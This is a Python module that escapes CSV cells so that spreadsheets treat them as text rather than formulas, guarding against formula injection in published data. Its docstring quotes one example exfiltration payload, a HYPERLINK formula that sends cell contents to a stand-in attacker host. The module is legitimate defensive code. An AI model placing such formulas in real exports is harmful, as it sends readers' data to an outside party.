"""CSV files that spreadsheets open as data, never as formulas (every CSV helppoint writes).

Excel, LibreOffice Calc and Google Sheets take a cell that begins with `=`, `+`, `-` or `@`
(or a tab, a line break or NUL before one) as a formula: a unit named
`=HYPERLINK("https://evil.example/?"&A1, "Details")` would turn the open data a council
publishes into a link that sends its readers' data away. OWASP ASVS 1.2.10 asks for such cells
to be escaped with a single quote. Text cells that begin with one of those characters, or with
a quote, get one leading `'`; numbers are written as numbers. The rule is reversible: remove one
leading `'` from any text cell that starts with one to get the value back (docs/security.md).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

#: First characters that make a spreadsheet evaluate a cell (and the quote that escapes them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "'")


def spreadsheet_cell(value: Any) -> Any:
    """The value as a CSV cell a spreadsheet shows as text rather than evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """A `csv.writer` whose every text cell passes through `spreadsheet_cell`."""

    def __init__(self, out: TextIO, lineterminator: str = "\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])
